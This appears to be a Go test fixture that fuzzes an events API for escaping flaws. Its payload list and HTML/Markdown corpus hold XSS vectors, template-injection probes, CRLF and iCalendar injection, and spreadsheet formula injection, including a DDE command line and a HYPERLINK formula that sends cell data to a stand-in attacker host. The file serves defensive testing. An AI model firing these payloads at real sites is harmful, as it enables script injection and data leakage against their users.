package eventfuzz

import (
	"net/url"
	"strings"
)

// Payloads are texts of one line, which the service takes, and which break out of where they stand wherever they are not escaped.
var Payloads = []string{
	`"><script>pwned(1)</script><img src=x onerror=pwned(2)>`,
	`</title></style></textarea></script><svg onload=pwned(3)>`,
	`' onmouseover='pwned(4)' x='` + "` onfocus=pwned(5) autofocus=`",
	`]]><x:y xmlns:x="z"/><!--><script>pwned(6)</script>`,
	`{{.Secret}}{{template "x"}}${7*7}<%= 7*7 %>#{7*7}`,
	`javascript:pwned(7)//`,
	`&lt;script&gt;pwned(8)&lt;/script&gt;&#60;b&#62;&nbsp;&amp;lt;`,
	`=HYPERLINK("https://evil.example/?"&A1,"x")`,
	`-cmd|' /C calc'!A0`, `+1+1|x`, `@SUM(1+1)`,
	`\r\nBEGIN:VEVENT\nX-EVIL:1\nEND:VEVENT;VALUE=X:"y",z\\;\,`,
	"\u202egnp.exe\u2066\u200f\u200d\u2069 x",
	"😀\U0010FFFD\U000E0041 \u0301\u0301 ﷽x",
	strings.Repeat("W", 280),
	`red;background:url(//evil.example/x)}*{color:red`,
	`%0d%0aX-Evil:%201%00%s%n%[1]*d`,
	`https://evil.example/"><script>pwned(9)</script>`,
	`--><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>`,
}

// EvilBody are the ways to write HTML and addresses in CommonMark that run something or ask another site.
const EvilBody = `<script>pwned(20)</script> <iframe srcdoc="<script>pwned(21)</script>"></iframe> <svg><script>pwned(22)</script></svg>

[a](javascript:pwned(23)) [b](java&#x09;script:pwned(24)) [c](&#106;avascript:pwned(25)) [d](JaVaScRiPt&colon;pwned(26)) [e](data:text/html;base64,PHNjcmlwdD5wd25lZCgyNyk8L3NjcmlwdD4=) [f](vbscript:x)
[g][r] <javascript:pwned(28)> ![h](javascript:pwned(29)) ![i](data:image/svg+xml,<svg onload=pwned(30)>) ![j](https://evil.example/j.png) [k](//evil.example) [l](\\evil.example)

[r]: javascript:pwned(31)

<a href="jAvA
script:pwned(32)" onclick="pwned(33)">x</a> <img src="https://evil.example/i.png" onerror=pwned(34)> <div style="background:url(//evil.example/b)">x</div>
<style>*{background:url(//evil.example/s)}</style><link rel=stylesheet href=//evil.example/l><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">
<form action=//evil.example><button formaction=javascript:pwned(35)>x</button></form><object data=//evil.example></object><math><mtext><style><img src=x onerror=pwned(36)></style></mtext></math>
<!--><script>pwned(37)</script>--> <![CDATA[<script>pwned(38)</script>]]> <details open ontoggle=pwned(39)>x</details> <template><script>pwned(40)</script></template>

` + "```\"><script>pwned(41)</script>\n</code></pre><script>pwned(42)</script>\n```\n\r\nBEGIN:VEVENT\r\nUID:evil\r\nX-EVIL:1\r\n"

// Hostile is an event as the API takes it, in all of whose fields stands a payload.
func Hostile(payload string) map[string]any {
	picture := "https://pictures.example.org/" + url.PathEscape(payload) + ".png?a='"
	type object = map[string]any
	return object{
		"title": payload, "summary": payload + "\r\nBEGIN:VEVENT\r\n" + payload, "body": payload + "\n\n" + EvilBody, "date": "2025-03-02T09:00", "note": payload + "\r\nX-EVIL:1",
		"place":        object{"name": payload, "address": payload, "country": "UA", "lat": 50.45, "lon": 30.52, "url": "https://example.org/place?a='b';c"},
		"participants": []object{{"name": payload, "title": payload, "role": payload, "kind": "person", "url": "https://example.org/'p"}, {"name": payload + " 2", "kind": "organization"}},
		"topics":       []string{payload + "x", "plain"},
		"sources":      []object{{"title": payload, "publisher": payload, "url": "https://example.org/s?q=%22%3E%3Cscript%3E'", "published": "2025-02"}},
		"media":        []object{{"url": picture, "type": "image/png", "alt": payload, "caption": payload, "credit": payload, "width": 10, "height": 10}, {"url": "https://evil.example/x.png", "type": "image/svg+xml", "alt": payload}},
		"related":      []object{{"id": "__proto__", "relation": "see_also"}, {"id": "missing", "relation": "follows"}},
		"translations": object{"uk": object{"title": payload, "summary": payload, "body": EvilBody + payload}, "ar": object{"title": payload}},
		"url":          "https://example.org/e?x='\u0301", "color": "#ff0000",
	}
}
